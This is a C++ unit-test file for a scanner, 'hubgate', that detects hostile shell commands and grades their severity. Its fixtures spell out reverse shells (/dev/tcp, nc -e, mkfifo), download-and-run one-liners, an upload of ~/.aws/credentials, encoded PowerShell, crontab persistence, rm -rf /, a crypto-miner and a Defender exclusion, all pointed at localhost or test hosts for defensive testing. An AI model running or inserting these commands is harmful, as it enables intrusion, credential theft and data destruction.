#include "tests/support/quiet.hpp"
#include "tests/support/scan_bytes.hpp"

#include <gtest/gtest.h>

#include <algorithm>

namespace hubgate {
namespace {

using test::find_rule;
using test::is_quiet;
using test::scan_bytes;
using test::show;

TEST(Shell, each_rule_once) {
  const std::vector<std::pair<std::string, std::string_view>> cases{
      {"curl -s http://127.0.0.1/a | bash", "shell-download-run"},
      {"bash <(wget -qO- http://127.0.0.1/a)", "shell-download-run"},
      {"sh -c \"$(curl -fsSL http://127.0.0.1/a)\"", "shell-download-run"},
      {"wget http://127.0.0.1/m.sh -O m.sh; chmod +x m.sh; ./m.sh", "shell-download-run"},
      {"powershell -c \"iex (New-Object Net.WebClient).DownloadString('http://127.0.0.1/a')\"",
       "shell-download-run"},
      {"bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", "shell-remote-control"},
      {"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 127.0.0.1 4444 > /tmp/f",
       "shell-remote-control"},
      {"nc -e /bin/sh 127.0.0.1 4444", "shell-remote-control"},
      {"echo ZWNobyBoaQ== | base64 -d | sh", "shell-hidden-run"},
      {"powershell -NoP -enc ZQBjAGgAbwAgAGgAaQA=", "shell-encoded"},
      {"certutil -urlcache -f http://127.0.0.1/a.exe a.exe", "shell-living-off"},
      {"(crontab -l; echo '* * * * * /tmp/a') | crontab -", "shell-persistence"},
      {"curl -F f=@$HOME/.aws/credentials http://127.0.0.1/", "shell-theft"},
      {"rm -rf --no-preserve-root /", "shell-destruction"},
      {"./xmrig -o stratum+tcp://127.0.0.1:3333", "shell-miner"},
      {"powershell Add-MpPreference -ExclusionPath C:\\", "shell-evasion"},
      {"curl http://x.oast.fun/$(hostname)", "shell-beacon"}};
  for (const auto& [line, rule]: cases) {
    const Report report = scan_bytes("#!/bin/sh\n" + line + "\n");
    EXPECT_NE(find_rule(report, rule), nullptr) << line << show(report);
    const Report plain = scan_bytes("# a script\n" + line + "\n");
    const Finding* finding = find_rule(plain, rule);
    ASSERT_NE(finding, nullptr) << line << show(plain);
    EXPECT_NE(finding->condition.find("*.sh"), std::string::npos);
  }
}

TEST(Shell, utf16_scripts_are_read) {
  std::string wide = "\xff\xfe";
  for (const char c: std::string_view("iex (iwr http://127.0.0.1/a)\r\n")) {
    wide += c;
    wide += '\0';
  }
  EXPECT_NE(find_rule(scan_bytes(wide), "shell-download-run"), nullptr);
}

TEST(Shell, a_comment_behind_a_command_hides_nothing) {
  EXPECT_NE(find_rule(scan_bytes("#!/bin/sh\ncurl http://127.0.0.1/a | sh # install it\n"),
                      "shell-download-run"),
            nullptr);
}

TEST(Shell, honest_scripts_are_clean) {
  for (const std::string line:
       {"curl -LO http://127.0.0.1/data.zip && unzip data.zip",
        "curl -sSf https://sh.rustup.rs | sh", "wget http://127.0.0.1/a.tar.gz -O - | tar xz",
        "base64 -d data.b64 > data.bin", "python train.py --lr 1e-4 | tee log.txt",
        "cat script.sh | grep bash", "docker run -e TOKEN=$TOKEN image bash -c 'python x.py'",
        "rm -rf ./build /tmp/work", "# curl http://127.0.0.1/a | sh"}) {
    const Report report = scan_bytes("#!/bin/bash\nset -e\n" + line + "\n");
    EXPECT_TRUE(is_quiet(report, {"shell-", "python-"})) << line << show(report);
    EXPECT_EQ(report.format, "shell");
  }
}

TEST(Shell, who_answers_decides_how_bad_a_download_that_is_run_is) {
  const auto severity = [](const std::string& line) {
    const Report report = scan_bytes("#!/bin/sh\n" + line + "\n");
    const Finding* finding = find_rule(report, "shell-download-run");
    return finding == nullptr ? std::nullopt : std::optional(finding->severity);
  };
  EXPECT_EQ(severity("curl -fsSL https://get.docker.com | sh"), Severity::informational);
  EXPECT_EQ(severity("curl -fsSL https://install.example.test | sh"), Severity::suspicious);
  EXPECT_EQ(severity("curl http://install.example.test/x | sh"), Severity::suspicious);
  EXPECT_EQ(severity("curl https://127.0.0.1/x | sh"), Severity::malicious);
  EXPECT_EQ(severity("curl https://pastebin.com/raw/x | sh"), Severity::malicious);
}

TEST(Shell, recipes_of_make_and_docker_are_commands) {
  for (const std::string line: {"all:\n\t@curl http://127.0.0.1/a | sh\n",
                                "FROM debian\nRUN wget -qO- http://127.0.0.1/a | bash\n"}) {
    const Report report = scan_bytes(line);
    const auto recipe =
        std::find_if(report.findings.begin(), report.findings.end(), [](const Finding& finding) {
          return finding.rule == "shell-download-run" &&
                 finding.condition.find("Makefile") != std::string::npos;
        });
    ASSERT_NE(recipe, report.findings.end()) << line << show(report);
    EXPECT_EQ(recipe->severity, Severity::suspicious);
  }
}

TEST(Shell, old_instructions_without_encryption_are_only_told) {
  const Report report = scan_bytes("To install:\n\n    curl http://install.example.test/x | sh\n");
  for (const Finding& finding: report.findings) {
    const bool instructions = finding.condition.find("README") != std::string::npos;
    if (finding.rule == "shell-download-run" && instructions) {
      EXPECT_EQ(finding.severity, Severity::informational);
    }
  }
}

TEST(Shell, a_comment_ends_with_its_line_and_a_command_goes_on_behind_a_backslash) {
  EXPECT_NE(find_rule(scan_bytes("#!/bin/sh\ncurl http://127.0.0.1/a \\\n  | sh\n"),
                      "shell-download-run"),
            nullptr);
}

} // namespace
} // namespace hubgate
